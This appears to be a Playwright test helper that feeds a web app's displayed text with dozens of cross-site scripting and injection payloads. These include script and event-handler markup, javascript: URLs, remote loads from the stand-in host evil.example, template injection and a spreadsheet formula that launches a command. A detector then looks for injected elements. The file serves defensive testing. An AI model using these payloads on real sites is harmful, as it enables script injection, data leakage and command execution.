import type { Page } from '@playwright/test';

const RUN = 'window.struck=(window.struck||0)+1';
const AWAY = 'https://evil.example/';

/** Markup that would run or load something, one for each way that browsers have had. */
const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}a.js></script>`,
  `<SCRIPT/SRC="${AWAY}b.js"></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${AWAY}pixel.gif>`,
  `<img/src/onerror=${RUN}>`,
  `<img srcset="${AWAY}p.png 2x">`,
  `<image href=${AWAY}i.png>`,
  `<picture><source srcset=${AWAY}s.png><img></picture>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><foreignObject><iframe onload="${RUN}"></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src=${AWAY}></iframe>`,
  `<object data=${AWAY}o.swf></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src=${AWAY}e.swf>`,
  `<link rel=stylesheet href=${AWAY}c.css>`,
  `<link rel=preload as=image href=${AWAY}l.png>`,
  `<link rel=dns-prefetch href=${AWAY}>`,
  `<style>@import "${AWAY}c.css";</style>`,
  `<style>body{background:url(${AWAY}b.png)}</style>`,
  `<div style="background:url(${AWAY}d.png)">x</div>`,
  `<body onload="${RUN}">`,
  `<body background=${AWAY}bg.png>`,
  `<base href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<form action=${AWAY}><button autofocus onfocus="${RUN}">x</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<input type=image src=${AWAY}i.png>`,
  `<button formaction="javascript:${RUN}" form=f>x</button>`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video autoplay onloadstart="${RUN}"><source src=${AWAY}v.mp4></video>`,
  `<video poster=${AWAY}p.png></video>`,
  `<audio src=${AWAY}a.mp3 autoplay onerror="${RUN}"></audio>`,
  `<track src=${AWAY}t.vtt default>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<div onpointerenter="${RUN}" style="position:fixed;inset:0">x</div>`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5zdHJ1Y2s9MTwvc2NyaXB0Pg==" ping=${AWAY}>x</a>`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  `<template><script>${RUN}</script></template>`,
  `<xmp><p title="</xmp><svg/onload='${RUN}'>">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${RUN}</html:script>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `＜script＞${RUN}＜/script＞`,
  `<img src=x onerror=&#119;&#105;&#110;&#100;&#111;&#119;.struck=1>`,
  `<p style=animation-name:x onanimationstart="${RUN}">x</p>`,
  `![x](${AWAY}m.png)`,
  `![x][1]\n\n[1]: ${AWAY}r.png`,
  `[x](javascript:${RUN})`,
  `<${AWAY}auto>`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}} <%= ${RUN} %>`,
  `=HYPERLINK("${AWAY}","x") @SUM(1) +cmd|' /C calc'!A0`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{"__html":"<img src=x onerror='${RUN}'>"}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${RUN}"}}`,
  `\u202E<img src=x onerror="${RUN}">\u202C\u200B`,
];
/** Contexts in which code might concatenate text carelessly. */
const WAYS_IN: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `">${markup}`,
  (markup) => `'/>${markup}<!--`,
  (markup) => `</title></textarea></style></script>${markup}`,
];

export const HOSTILE_MARKUP: readonly string[] = WAYS_IN.flatMap((wayIn) => VECTORS.map(wayIn));

/** Values that are not for display, but that the page’s logic depends on. */
const STRUCTURE = new Set(
  'kind type status stage intent assistant mediaType promptKind source purpose part reason code origin'.split(
    ' ',
  ),
);
const PROSE = new Set(
  'title name university country referenceNumber fileName url keyword firstName lastName value label'.split(
    ' ',
  ),
);
const TOGETHER = 12;

/** Replaces each text that the server sends for display by the corpus, a dozen entries at a time. */
export function spoiler(): (key: string, value: unknown) => unknown {
  let at = 0;
  const next = () => {
    const from = at;
    at += TOGETHER;
    return Array.from(
      { length: TOGETHER },
      (_, index) => HOSTILE_MARKUP[(from + index) % HOSTILE_MARKUP.length],
    ).join(' ');
  };
  return (key, value) => {
    if (Array.isArray(value) && ['keywords', 'topics', 'quickReplies', 'interests'].includes(key))
      return value.map(next);
    if (typeof value !== 'string' || STRUCTURE.has(key)) return value;
    return PROSE.has(key) || value.includes(' ') ? next() : value;
  };
}

/** Everything the page has done, or contains, that only injected markup could have caused. */
export function harmDone(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    if ('struck' in window) found.push('something ran');
    const planted =
      'img[src*="evil"],[srcset*="evil"],script[src*="evil"],link[href*="evil"],iframe[src],iframe[srcdoc],object,embed,base,meta[http-equiv=refresh],[href^="javascript" i],[href^="data:text" i],[style*="evil"],form[action*="evil"]';
    for (const element of document.querySelectorAll(planted)) found.push(element.outerHTML.slice(0, 120));
    for (const element of document.querySelectorAll('*'))
      for (const { name } of element.attributes)
        if (name.startsWith('on')) found.push(`${element.tagName} ${name}`);
    return found;
  });
}
